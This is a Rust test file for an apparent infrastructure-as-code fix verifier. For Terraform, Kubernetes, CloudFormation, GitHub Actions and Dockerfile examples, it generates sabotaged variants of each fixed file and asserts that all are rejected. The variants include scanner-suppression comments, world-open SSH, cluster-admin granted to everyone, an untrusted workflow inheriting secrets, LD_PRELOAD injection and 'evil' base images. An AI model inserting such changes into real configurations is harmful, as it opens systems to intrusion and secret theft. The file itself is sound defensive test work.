//! Each class over the examples of many rules: what a fix may not do, it may do in no file.

use std::collections::BTreeMap;

use keyblind_resource::Dialect;
use keyblind_rules::{RuleTable, dialect_of};

use crate::bench::Bench;

/// Every how many rules one is taken, by dialect: enough for a test that runs each time.
fn one_of(dialect: Dialect) -> usize {
    match dialect {
        Dialect::Terraform => 19,
        Dialect::Dockerfile | Dialect::GithubActions => 3,
        _ => 7,
    }
}

fn path(dialect: Dialect) -> &'static str {
    match dialect {
        Dialect::CloudFormation => "template.yaml",
        Dialect::Kubernetes => "manifest.yaml",
        Dialect::GithubActions => ".github/workflows/workflow.yml",
        Dialect::Dockerfile => "Dockerfile",
        _ => "main.tf",
    }
}

/// A fixed text, by lines.
struct Text<'t> {
    before: &'t str,
    fixed: &'t str,
    lines: Vec<&'t str>,
}

/// A class of sabotage, and a text with it.
type Sabotaged = (&'static str, String);

impl<'t> Text<'t> {
    fn of(before: &'t str, fixed: &'t str) -> Self {
        Self { before, fixed, lines: fixed.lines().collect() }
    }

    /// The lines that the fix left as they were, with their numbers.
    fn kept(&self) -> impl Iterator<Item = (usize, &'t str)> {
        let is_kept =
            |line: &str| self.before.lines().filter(|old| *old == line).count() == self.lines.iter().filter(|new| **new == line).count();
        self.lines.iter().copied().enumerate().filter(move |(_, line)| is_kept(line))
    }

    /// The first kept line that a condition holds for.
    fn first(&self, holds: impl Fn(&str) -> bool) -> Option<(usize, &'t str)> {
        self.kept().find(|(_, line)| holds(line))
    }

    /// The text with a line of it replaced by others.
    fn with(&self, at: usize, by: &[&str]) -> String {
        let (before, after) = self.lines.split_at(at);
        let all: Vec<&str> = before.iter().chain(by).chain(after.iter().skip(1)).copied().collect();
        all.join("\n") + "\n"
    }

    fn behind(&self, at: usize, more: &str) -> String {
        self.with(at, &[self.lines[at], more])
    }

    fn without(&self, lines: std::ops::RangeInclusive<usize>) -> String {
        let kept: Vec<&str> = self.lines.iter().enumerate().filter(|(at, _)| !lines.contains(at)).map(|(_, line)| *line).collect();
        kept.join("\n") + "\n"
    }

    fn appended(&self, more: &str) -> String {
        format!("{}\n{more}", self.fixed.trim_end_matches('\n')) + "\n"
    }

    /// The first line that the fix changed or added: it, and what is left of its sign of assignment.
    fn changed(&self, sign: &str) -> Option<(usize, String)> {
        let kept: Vec<usize> = self.kept().map(|(at, _)| at).collect();
        let mut changed = self.lines.iter().enumerate().filter(|(at, _)| !kept.contains(at));
        changed.find_map(|(at, line)| {
            let (key, value) = line.split_once(sign)?;
            // The start of a list or block isn't a value.
            let is_whole = !value.trim().is_empty() && !value.trim_end().ends_with(['{', '[', '(']) && !value.contains("<<");
            is_whole.then(|| (at, key.to_owned()))
        })
    }
}

fn indentation(line: &str) -> &str {
    &line[..line.len() - line.trim_start().len()]
}

/// What can be done to any text.
fn anywhere(text: &Text<'_>, suppressions: &[&str], found: &mut Vec<Sabotaged>) {
    found.push(("undoes the fix", text.before.to_owned()));
    for suppression in suppressions {
        found.push(("suppresses at the end", text.appended(&format!("# {suppression}"))));
        found.push(("suppresses at the start", format!("# {suppression}\n{}", text.fixed)));
    }
    if let Some((at, line)) = text.first(|line| !line.trim().is_empty() && !line.trim_start().starts_with('#')) {
        found.push(("suppresses in front of a line", text.with(at, &[&format!("{}# {}", indentation(line), suppressions[0]), line])));
        found.push(("leaves white space", text.with(at, &[&format!("{line} ")])));
    }
    if let Some((at, _)) = text.first(|line| line.trim_start().starts_with('#')) {
        found.push(("takes a comment out", text.without(at..=at)));
        found.push(("changes a comment", text.with(at, &[&format!("{} nothing to see", text.lines[at])])));
    }
    if text.lines.len() > 3 && !text.fixed.contains('\r') {
        found.push(("mixes line endings", text.fixed.replacen('\n', "\r\n", 1)));
    }
    found.push(("leaves nothing", String::new()));
}

fn in_terraform(text: &Text<'_>, found: &mut Vec<Sabotaged>) {
    anywhere(text, &["keyblind:ignore[*]", "checkov:skip=CKV_AWS_1:fine", "trivy:ignore:*"], found);
    for (class, more) in [
        (
            "opens a port",
            "resource \"aws_security_group\" \"sabotage\" {\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}",
        ),
        ("asks a server", "data \"http\" \"sabotage\" {\n  url = \"https://example.org/?q=${terraform.workspace}\"\n}"),
        ("asks a program", "data \"external\" \"sabotage\" {\n  program = [\"sh\", \"-c\", \"true\"]\n}"),
        ("adds a provider", "provider \"http\" {\n}"),
        ("calls a module from elsewhere", "module \"sabotage\" {\n  source = \"git::https://example.org/m.git\"\n}"),
        ("moves the state", "terraform {\n  backend \"http\" {\n    address = \"https://example.org\"\n  }\n}"),
        ("asks for another provider", "terraform {\n  required_providers {\n    aws = {\n      source = \"evil/aws\"\n    }\n  }\n}"),
        ("shows a value", "output \"sabotage\" {\n  value = terraform.workspace\n}"),
        ("adds a variable", "variable \"sabotage\" {\n  default = true\n}"),
        ("adds a local", "locals {\n  sabotage = true\n}"),
        ("leaves the syntax broken", "resource {{"),
    ] {
        found.push((class, text.appended(&format!("\n{more}"))));
    }
    let is_block = |line: &str| line.starts_with("resource \"");
    if let Some((start, line)) = text.first(is_block) {
        for (class, more) in [
            ("makes no instance", "  count = 0\n"),
            ("makes it another account's", "  provider = aws.sabotage\n"),
            ("ignores changes", "  lifecycle {\n    ignore_changes = all\n  }\n"),
            ("runs a program", "  provisioner \"local-exec\" {\n    command = \"true\"\n  }\n"),
            ("hangs on something else", "  depends_on = [null_resource.sabotage]\n"),
        ] {
            found.push((class, text.behind(start, more)));
        }
        found.push(("renames a resource", text.with(start, &[&line.replace("\" {", "_other\" {")])));
        found.push(("changes a type", text.with(start, &[&line.replacen("resource \"", "resource \"x_", 1)])));
        found.push(("makes it a data source", text.with(start, &[&line.replacen("resource", "data", 1)])));
        if let Some(end) = text.lines.iter().skip(start).position(|line| *line == "}").map(|length| start + length) {
            found.push(("deletes a resource", text.without(start..=end)));
            let body = text.lines[start..=end].iter().map(|line| format!("# {line}")).collect::<Vec<_>>().join("\n");
            let all =
                [&text.lines[..start].join("\n"), &body, &text.lines[end + 1..].join("\n")].map(|part| part.trim_matches('\n').to_owned());
            found.push(("comments a resource out", all.join("\n") + "\n"));
            let copy = text.lines[start..=end].join("\n").replacen("\" {", "_copy\" {", 1);
            found.push(("declares it twice", text.appended(&format!("\n{copy}"))));
        }
    }
    if let Some((at, key)) = text.changed("=") {
        let moved = text.with(at, &[&format!("{key}= var.sabotage")]);
        found.push(("moves the fault into a variable", format!("{moved}\nvariable \"sabotage\" {{\n}}\n")));
        found.push((
            "moves the fault into a local",
            format!("{}\nlocals {{\n  sabotage = null\n}}\n", moved.replace("var.sab", "local.sab")),
        ));
    }
}

fn in_document(text: &Text<'_>, dialect: Dialect, found: &mut Vec<Sabotaged>) {
    anywhere(text, &["keyblind:ignore[*]", "checkov:skip=CKV_AWS_1", "zizmor: ignore[all]"], found);
    found.push(("adds a document", format!("{}---\nkind: Sabotage\n", text.fixed)));
    found.push(("leaves the syntax broken", text.appended("- : [")));
    found.push(("adds a key", text.appended("sabotage: true")));
    let is_plain = |line: &str| {
        let plain = line.split_once(": ").is_some_and(|(key, value)| {
            !key.contains(['"', '#', '{']) && !value.trim_start().starts_with(['{', '[', '|', '>', '&', '*', '"', '\'', '!'])
        });
        plain && !line.trim_start().starts_with('#')
    };
    // What lies deeper in a script or another text that is taken as it is stands behind what is looked for here.
    if let Some((at, line)) = text.first(is_plain) {
        let (key, value) = line.split_once(": ").unwrap_or_default();
        for (class, by) in [
            ("changes a value", format!("{key}: {}x", value.trim_end())),
            ("changes a key", format!("{key}x: {value}")),
            ("takes a value away", format!("{key}:")),
            ("comments a line", format!("{line} # sabotage")),
            ("names a value", format!("{key}: &sabotage {value}")),
            ("tags a value", format!("{key}: !sabotage {value}")),
            ("hides a sign", format!("{key}: {}\u{200b}", value.trim_end())),
            ("turns the direction", format!("{key}: \u{202e}{value}")),
            ("makes a list of it", format!("{key}: [{}]", value.trim_end())),
        ] {
            found.push((class, text.with(at, &[&by])));
        }
        found.push(("says a key twice", text.with(at, &[line, line.trim_start_matches("- ")])));
    }
    let inserted: &[(&str, &str, &str)] = match dialect {
        Dialect::Kubernetes => &[
            (
                "grants everything",
                "",
                "---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: sabotage}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: Group, name: system:authenticated}]",
            ),
            (
                "adds a pod",
                "",
                "---\napiVersion: v1\nkind: Pod\nmetadata: {name: sabotage}\nspec: {hostPID: true, containers: [{name: a, image: a}]}",
            ),
            ("suppresses by annotation", "metadata:", "  annotations: {checkov.io/skip1: CKV_K8S_1}"),
            ("moves it to another namespace", "metadata:", "  namespace: sabotage"),
            ("labels it", "metadata:", "  labels: {sabotage: 'true'}"),
        ],
        Dialect::CloudFormation => &[
            ("adds a resource", "Resources:", "  Sabotage:\n    Type: AWS::SQS::Queue"),
            (
                "opens a port",
                "Resources:",
                "  Sabotage:\n    Type: AWS::EC2::SecurityGroup\n    Properties: {GroupDescription: a, SecurityGroupIngress: [{IpProtocol: '-1', CidrIp: 0.0.0.0/0}]}",
            ),
            ("adds a macro", "Resources:", "  Fn::Transform: {Name: Sabotage}"),
            ("shows a value", "", "Outputs:\n  Sabotage:\n    Value: !Ref AWS::AccountId"),
            ("adds a condition", "", "Conditions:\n  Sabotage: !Equals [a, b]"),
        ],
        _ => &[
            ("is run by anybody", "on:", "  pull_request_target: {types: [opened]}"),
            ("adds a job", "jobs:", "  sabotage:\n    runs-on: ubuntu-24.04\n    steps: [{run: id}]"),
            ("calls another workflow", "jobs:", "  sabotage:\n    uses: evil/flows/.github/workflows/x.yml@main\n    secrets: inherit"),
            ("sets a variable", "", "env: {BASH_ENV: /tmp/x}"),
            ("changes the shell", "", "defaults: {run: {shell: python}}"),
        ],
    };
    for (class, key, more) in inserted {
        if key.is_empty() {
            let name = more.split_once(':').map_or(*more, |(name, _)| name);
            if !text.lines.iter().any(|line| line.split(':').next() == Some(name)) {
                found.push((class, text.appended(more)));
            }
        } else if let Some((at, _)) = text.first(|line| line == *key) {
            found.push((class, text.behind(at, more)));
        }
    }
    if dialect == Dialect::GithubActions
        && let Some((at, line)) = text.first(|line| line.trim_start().starts_with("- run: ") || line.trim_start().starts_with("- uses: "))
    {
        let step = indentation(line);
        found.push(("adds a step", text.with(at, &[&format!("{step}- run: id"), line])));
        found.push(("goes on after a failure", text.behind(at, &format!("{step}  continue-on-error: true"))));
    }
    if dialect == Dialect::CloudFormation
        && let Some((at, line)) = text.first(|line| line.starts_with("    Type: AWS::"))
    {
        found.push(("lets it be deleted", text.behind(at, "    DeletionPolicy: Delete")));
        found.push(("makes none", text.behind(at, "    Condition: Sabotage")));
        found.push(("suppresses by metadata", text.behind(at, "    Metadata: {checkov: {skip: [{id: CKV_AWS_1}]}}")));
        found.push(("changes a type", text.with(at, &[&format!("{line}x")])));
    }
    if let Some((at, key)) = text.changed(": ") {
        match dialect {
            Dialect::CloudFormation if !text.fixed.contains("\nParameters:") => found.push((
                "moves the fault into a parameter",
                format!("{}Parameters:\n  Sabotage:\n    Type: String\n", text.with(at, &[&format!("{key}: !Ref Sabotage")])),
            )),
            // Elsewhere any value may do, whoever gives it.
            Dialect::GithubActions if [": false", ": true"].iter().any(|value| text.lines[at].ends_with(value)) => {
                found.push(("moves the fault into a variable", text.with(at, &[&format!("{key}: ${{{{ vars.SABOTAGE }}}}")])));
            }
            _ => {}
        }
    }
}

fn in_dockerfile(text: &Text<'_>, found: &mut Vec<Sabotaged>) {
    anywhere(text, &["keyblind:ignore[*]", "checkov:skip=CKV_DOCKER_1", "hadolint ignore=DL3000"], found);
    for (class, more) in [
        ("becomes root", "USER root"),
        ("runs another step", "RUN id"),
        ("runs something else", "CMD [\"/sabotage\"]"),
        ("enters by something else", "ENTRYPOINT [\"/sabotage\"]"),
        ("adds a stage", "FROM scratch"),
        ("opens a port", "EXPOSE 22"),
        ("sets a variable", "ENV LD_PRELOAD=/x"),
        ("fetches something", "ADD https://example.org/x /x"),
        ("copies everything", "COPY / /"),
        ("leaves a trigger", "ONBUILD RUN id"),
        ("mounts a volume", "VOLUME /etc"),
        ("changes the shell", "SHELL [\"/bin/sh\", \"-c\"]"),
        ("never says that it is ill", "HEALTHCHECK CMD /bin/true"),
        ("leaves no instruction", "SABOTAGE"),
    ] {
        found.push((class, text.appended(more)));
    }
    if let Some((at, line)) = text.first(|line| line.starts_with("FROM ")) {
        let image = line.split_whitespace().nth(1).unwrap_or_default();
        found.push(("takes another image", text.with(at, &[&line.replacen(image, "evil.example.org/x:1", 1)])));
        found.push(("builds for another machine", text.with(at, &[&line.replacen("FROM ", "FROM --platform=linux/arm64 ", 1)])));
        found.push(("defines an argument", text.with(at, &["ARG SABOTAGE=1", line])));
    }
    if let Some((at, line)) = text.first(|line| line.starts_with("RUN ") && !line.contains("<<")) {
        found.push(("takes a step out", text.without(at..=at)));
        found.push(("makes the step a trigger", text.with(at, &[&format!("ONBUILD {line}")])));
        found.push(("runs another program in the step", text.with(at, &[&line.replacen("RUN ", "RUN sabotage && ", 1)])));
        found.push(("mounts a secret", text.with(at, &[&line.replacen("RUN ", "RUN --mount=type=secret,id=x ", 1)])));
        found.push(("turns the network on", text.with(at, &[&line.replacen("RUN ", "RUN --network=host ", 1)])));
    }
    found.push(("chooses another parser", format!("# syntax=evil.example.org/x\n{}", text.fixed)));
}

#[test]
fn no_class_is_proven_in_any_of_many_files() {
    let table = RuleTable::embedded().unwrap();
    let mut clean: BTreeMap<&str, usize> = BTreeMap::new();
    // How many of the derived fixes would be proven as well if somebody had proposed them.
    let mut proposable: BTreeMap<&str, usize> = BTreeMap::new();
    let mut refused: BTreeMap<(&str, &str), usize> = BTreeMap::new();
    let mut proven = Vec::new();
    for (number, (rule, meta)) in table.iter().enumerate() {
        for set in &table.docs(rule).examples {
            let dialect = dialect_of(set.language);
            let Some(bad) = set.bad.first().filter(|_| number % one_of(dialect) == 0) else { continue };
            let Some(bench) = Bench::new(&table, rule, &[(path(dialect), bad)]) else { continue };
            assert!(bench.judge(bench.fixed()).is_ok(), "{}", meta.id);
            *clean.entry(dialect.name()).or_default() += 1;
            match bench.propose(bench.fixed()) {
                Ok(_) => *proposable.entry(dialect.name()).or_default() += 1,
                Err(disproof) => println!("{} ({}): {disproof:?}", meta.id, dialect.name()),
            }
            let text = Text::of(&bench.before, bench.fixed());
            let mut sabotaged = Vec::new();
            match dialect {
                Dialect::Terraform => in_terraform(&text, &mut sabotaged),
                Dialect::Dockerfile => in_dockerfile(&text, &mut sabotaged),
                _ => in_document(&text, dialect, &mut sabotaged),
            }
            for (class, text) in sabotaged.into_iter().filter(|(_, text)| text != bench.fixed()) {
                if bench.judge(&text).is_ok() {
                    proven.push(format!("{} ({}): {class}\n{text}", meta.id, dialect.name()));
                }
                if bench.propose(&text).is_ok() {
                    proven.push(format!("proposed: {} ({}): {class}\n{text}", meta.id, dialect.name()));
                }
                *refused.entry((dialect.name(), class)).or_default() += 1;
            }
        }
    }
    assert!(proven.is_empty(), "{} proven:\n{}", proven.len(), proven.join("\n\n"));
    for (dialect, files) in &clean {
        let classes: Vec<usize> = refused.iter().filter(|((of, _), _)| of == dialect).map(|(_, count)| *count).collect();
        println!("{dialect}: {files} files, {} classes, {} sabotaged texts", classes.len(), classes.iter().sum::<usize>());
        let proposed = proposable.get(dialect).copied().unwrap_or_default();
        println!("{dialect}: {proposed} of {files} clean texts are proven as proposals");
        assert!(proposed >= 2, "{dialect}: only {proposed} of {files} clean texts are proven as proposals");
        assert!(*files >= 8 && classes.len() >= 20, "{dialect}: {files} files, {} classes", classes.len());
    }
    assert_eq!(clean.len(), 5);
    // What a script or a command says is nothing that may be proposed, and in some dialects that is most of it.
    let (proposed, files): (usize, usize) = (proposable.values().sum(), clean.values().sum());
    assert!(proposed * 2 >= files, "only {proposed} of {files} clean texts are proven as proposals");
    assert!(refused.values().sum::<usize>() >= 1_000);
}
